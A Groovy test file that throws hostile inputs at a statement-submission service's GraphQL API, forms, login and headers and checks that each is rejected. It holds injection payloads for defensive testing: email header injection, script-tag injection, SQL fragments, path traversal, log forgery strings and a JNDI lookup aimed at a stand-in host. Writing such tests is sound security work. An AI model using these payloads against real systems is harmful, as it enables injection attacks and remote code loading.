package org.sdohub.journey

import static org.sdohub.journey.Rain.as
import static org.sdohub.journey.Rain.drop

import org.sdohub.journey.Rain.Drop

/** What somebody without login can write, and days that no calendar has. */
class HostileTexts {

    static final String SUBMIT = 'mutation($i: SubmitStatementWithoutLoginInput!) { submitStatementWithoutLogin(input: $i) { receipt { path } problems { code field } } }'
    static final Map GOOD = [submitter: [name: 'Jane', address: 'jane@tomorrow.example'], unknownSender: 'Forum', to: ['IETF/DISPATCH'], title: 'x', purpose: 'FOR_INFORMATION', body: 'x']
    static final Map FORM = [name: 'Jane', address: 'jane@tomorrow.example', from: 'Forum', to: 'IETF/DISPATCH', title: 'x', purpose: 'FOR_INFORMATION', body: 'x']
    static final String REFUSED = '^HTTP/1.1 (200|400|413) (?s).*("receipt":null(?s).*"problems":\\[\\{|"errors":\\[)'

    private static Drop submitted(String what, Map more, String answer = REFUSED) {
        drop(what, answer) { graphql([query: SUBMIT, variables: [i: GOOD + more]]) }
    }

    static final List<String> ADDRESSES = [
            '', '@', 'x', 'x@', '@evil.example', 'x@y@evil.example', 'x@evil', 'x@.example', 'x@evil..example', 'x@-evil.example', 'x@evil.example.', 'x y@evil.example', 'x@evil.example\r\nBcc: all@evil.example', 'x@evil.example\nSubject: y',
            'x@evil.example%0d%0aBcc:y@evil.example\r', "x\u0000@evil.example", 'x@evil.example, y@evil.example', 'x@evil.example;y@evil.example', 'Jane <x@evil.example>', '<x@evil.example>', '(comment)x@evil.example', 'x@(comment)evil.example', '"x y"@evil.example',
            '"x\r\n"@evil.example', 'x\\@evil.example', 'x@[127.0.0.1]', 'x@[IPv6:::1]', 'group:x@evil.example;', '@a,@b:x@evil.example', 'x\u0085@evil.example', 'x\u2028@evil.example', 'x\u200b@evil.example', '\u202Ex@evil.example', 'x@ev\u00adil.example', 'x@evil\u3002example\u0000', 'x' * 65 + '@evil.example',
            'x@' + 'e' * 200 + '.example', 'x@' + 'e.' * 120 + 'example', 'x' * 100_000, '=?utf-8?q?x=40evil?= <x@evil.example>', 'x@evil_example.com', 'mailto:x@evil.example', 'x@evil.example?bcc=y', '\ud800x@evil.example',
    ]

    static List<Drop> addresses() {
        ADDRESSES.collectMany { address ->
            def named = address.take(24).inspect() + " of ${address.size()}"
            [submitted("from $named", [submitter: [name: 'Jane', address: address]]),
             submitted("answers to $named", [contacts: [response: [address]]])] + (address.contains('\ud800') ? [] : [drop("a form from $named", '^HTTP/1.1 (422|400) ') { form('/submissions/new', FORM + [form: word(), address: address]) }])
        } + ['', ' ', 'x\r\nBcc: all@evil.example', 'x\ny', 'x\u0000', 'x\u0085y', 'x\u2028y', '\u202Etxt', 'x' * 201, '\u001b[31mred', '\ud800'].collectMany { name ->
            [submitted("by somebody named ${name.take(24).inspect()}", [submitter: [name: name, address: 'jane@tomorrow.example']]),
             submitted("for an organization named ${name.take(24).inspect()}", [unknownSender: name + (name.size() == 201 ? name : '')])]
        }
    }

    static List<Drop> submissions() {
        def titles = ['': '', 'blanks': '   ', 'a million characters': 'x' * 50_000, 'a line end': 'a\r\nSubject: b', 'a NUL': 'a\u0000', 'a direction': 'a\u202Eb', 'a paragraph': 'a\u2029b', 'half a pair': 'a\ud800', '256 characters': 'x' * 256, 'a colour': '\u001b[31ma']
        titles.collectMany { what, title -> [submitted("a title of $what", [title: title])] + (title.contains('\ud800') ? [] : [drop("a form with a title of $what", '^HTTP/1.1 (422|400) ') { form('/submissions/new', FORM + [form: word(), title: title]) }]) } +
        [
            submitted('to nobody', [to: []]), submitted('to who is not there', [to: ['NOBODY/X']]), submitted('to a pattern', [to: ['*']]), submitted('to ten thousand', [to: (1..5000).collect { 'IETF' }]), submitted('to an object', [to: [[ne: 1]]]),
            submitted('to markup', [to: ['<script>alert(1)</script>']], '^HTTP/1.1 200 (?!(?s).*<script>alert)'), submitted('as somebody who is known here', [from: ['OMA'], unknownSender: null, actingAs: 'SECRETARIAT']), submitted('of no purpose', [purpose: null]),
            submitted('of a purpose that is not there', [purpose: 'FOR_FUN']), submitted('of nothing', [body: '']), submitted('with a NUL', [body: 'a\u0000b']), submitted('with half a pair', [body: 'a\ud800']), submitted('of 60 KB', [body: 'x' * 62_000, title: '']),
            submitted('that answers what is not there', [relations: [[to: 'LS-9999-0001', kind: 'REPLIES_TO']]]), submitted('with an attachment, which it cannot have', [attachments: [[upload: '../../x']]]),
            submitted('with a thousand requests', [requestedActions: (1..3000).collect { 'x' }]), submitted('with a field that is not there', [moderated: true]), submitted('that says it is posted', [state: 'POSTED']), submitted('by nobody', [submitter: null]),
        ] +
        [
            ['no word of the hub', FORM], ['a forged word', FORM + [form: 'x']], ['a word of 5 KB', FORM + [form: 'x' * 5000]], ['a word of markup', FORM + [form: '"><script>alert(1)</script>']], ['markup in every field', FORM.collectEntries { [it.key, '"><script>alert(1)</script>'] }],
            ['ten thousand fields', (1..10_000).collectEntries { ['f' + it, 'x'] }], ['a field of 400 KB', FORM + [body: 'x' * 400_000]], ['nothing', [:]], ['fields that are not there', [admin: 'true', state: 'POSTED', id: '1']],
        ].collect { what, fields -> drop("a form with $what", '^HTTP/1.1 (422|400|413) (?!(?s).*<script>alert)') { form('/submissions/new', (fields.form || fields.isEmpty() || what.startsWith('no word') ? [:] : [form: word()]) + fields) } } +
        [
            ['not encoded', 'title=%zz&to=%'], ['of nothing but signs', '&=&=&&==&'], ['of bytes', '\u00ff=\u00fe'], ['of JSON', '{"title":"x"}'], ['of half a megabyte', 'body=' + 'x' * 600_000],
        ].collect { what, body -> drop("a form $what", '^HTTP/1.1 (422|400|413) ') { form('/submissions/new', body) } } +
        ['x', 'x' * 3000, '%00', '..%2f..', 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', "'--", '<script>'].collectMany { word -> [
            drop("following with ${word.take(20)}", '"submission":null') { graphql([query: 'query($t: String!) { submission(token: $t) { state } }', variables: [t: word]]) },
            drop("confirming with ${word.take(20)}", '"code":"SUBMISSION_UNKNOWN"') { graphql([query: 'mutation($t: String!) { confirmSubmission(input: {token: $t}) { problems { code } } }', variables: [t: word]]) },
            drop("correcting with ${word.take(20)}", '"code":"SUBMISSION_UNKNOWN"') { graphql([query: 'mutation($t: String!) { correctSubmission(input: {token: $t, title: "x"}) { problems { code } } }', variables: [t: word]]) },
            drop("confirming by a form with ${word.take(20)}", '^HTTP/1.1 (400|404) ') { form('/submissions/confirm/' + URLEncoder.encode(word, 'UTF-8'), [:]) },
            drop("correcting by a form with ${word.take(20)}", '^HTTP/1.1 (400|404) ') { form('/submissions/' + URLEncoder.encode(word, 'UTF-8') + '/correct', FORM) },
        ] }
    }

    static final List<String> DAYS = [
            '0000-01-01', '-0001-01-01', '10000-01-01', '+10000-01-01', '2027-02-29', '1900-02-29', '2026-02-30', '2026-04-31', '2026-13-01', '2026-00-10', '2026-01-00', '2026-1-1', '26-01-01', '2026/01/01', '01.02.2026', '20260101', '2026-W01-1', '2026-001', '2026-01-01T00:00:00Z',
            '2026-01-01+99:99', ' 2026-01-01', '２０２６-01-01', '٢٠٢٦-01-01', 'tomorrow', 'now', 'NaN', '', '1e9', '2026-01-01\u0000', '2026-01-01\r\nX: y', "2026-01-01'; --", '9' * 5000, '999999999-12-31', '-999999999-01-01',
    ]

    static List<Drop> days() {
        DAYS.collectMany { day ->
            def named = day.take(24).inspect() + " of ${day.size()}"
            [drop("the rules of the day $named", '^HTTP/1.1 400 (?s).*BAD_USER_INPUT') { graphql([query: 'query($d: Date) { policyExplanation(from: "IETF/DISPATCH", to: "OMA/CD", purpose: FOR_ACTION, on: $d) { on } }', variables: [d: day]]) },
             submitted("a deadline of $named", [deadline: day, purpose: 'FOR_ACTION']),
             drop("a form with a deadline of $named", '^HTTP/1.1 (422|400) ') { form('/submissions/new', FORM + [form: word(), deadline: day ?: 'x', purpose: 'FOR_ACTION', title: 'x']) },
             drop("a search due $named", '^HTTP/1.1 200 ') { graphql([query: 'query($q: String!) { search(query: $q) { totalCount } }', variables: [q: "due:<$day"]]) }]
        } + [0, -1, 1.5, true, [1], [a: 1], 99999999999999].collect { day -> drop("the rules of the day $day, which is no text", '^HTTP/1.1 400 (?s).*BAD_USER_INPUT') { graphql([query: 'query($d: Date) { policyExplanation(from: "IETF/DISPATCH", to: "OMA/CD", purpose: FOR_ACTION, on: $d) { on } }', variables: [d: day]]) } }
    }

    /** What would forge a line of the log or of the audit log, were it written as it comes. */
    static List<Drop> records() {
        def forged = ['x\r\n2026-01-01 INFO admin signed in', 'x\n{"number":1,"outcome":"DONE"}', '\u0000', '\u001b]0;evil\u0007', '${jndi:ldap://evil.example/x}', '%n%n%s%x', '\u2028', '\u202E', '"}\n{"number":7', 'x' * 5000, '\t\t\t', '\b\b\b\b']
        forged.collectMany { text ->
            def named = text.take(20).inspect()
            [drop("signing in as $named", HostileTokens.REFUSED) { http('POST', '/login', ['Content-Type': 'application/json'], groovy.json.JsonOutput.toJson([username: text, password: 'x'])) },
             drop("an operation named $named", '^HTTP/1.1 400 ') { graphql([query: '{ __typename }', operationName: text]) },
             drop("an act with the word $named", '"errors"|"problems"') { graphql([query: 'mutation($t: String!) { confirmSubmission(input: {token: $t, clientMutationId: $t}) { problems { code } } }', variables: [t: text]]) },
             drop("an act of somebody without the right, with the word $named", '"problems":\\[\\{|"errors"') { graphql([query: 'mutation($t: String!) { abandonStatement(input: {id: $t, reason: $t}) { problems { code } } }', variables: [t: text]], as(hub.token('delegate'))) }]
        } + ['a\rb', 'a b', '${x}', 'x' * 500, '<b>', '\u00fc'].collect { id -> drop("a request named ${id.take(20).inspect()}", '^HTTP/1.1 (200|400) |^$') { http('GET', '/health', ['X-Request-Id': id]) } }
    }
}
